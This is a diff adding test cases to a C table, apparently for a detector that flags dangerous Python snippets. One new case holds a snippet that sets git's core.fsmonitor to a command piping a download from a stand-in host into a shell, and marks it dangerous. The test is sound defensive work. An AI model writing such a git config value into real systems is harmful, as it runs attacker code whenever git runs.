@@ -451,6 +451,14 @@ static const struct {
      true},
     {"a loop over build directories removed",
      "import shutil\nfor d in ['build', 'dist']:\n    shutil.rmtree(d)\n", false},
+    {"git's core.fsmonitor set to a download run by a shell, from a table",
+     "import subprocess\nS = [('core.fsmonitor', \"sh -c 'curl -s http://x/f | sh' #\")]\n"
+     "for k, v in S:\n    subprocess.run(['git', 'config', '--global', k, v])\n",
+     true},
+    {"git's core.editor set to vim, from a table",
+     "import subprocess\nS = {'core.editor': 'vim', 'pull.rebase': 'true'}\n"
+     "for k, v in S.items():\n    subprocess.run(['git', 'config', k, v])\n",
+     false},
     {"code read back under a key a literal also has stays unknown",
      "import json\nD = {'code': 'print(1)'}\ncfg = json.load(open('c.json'))\nexec(cfg['code'])\n",
      true},
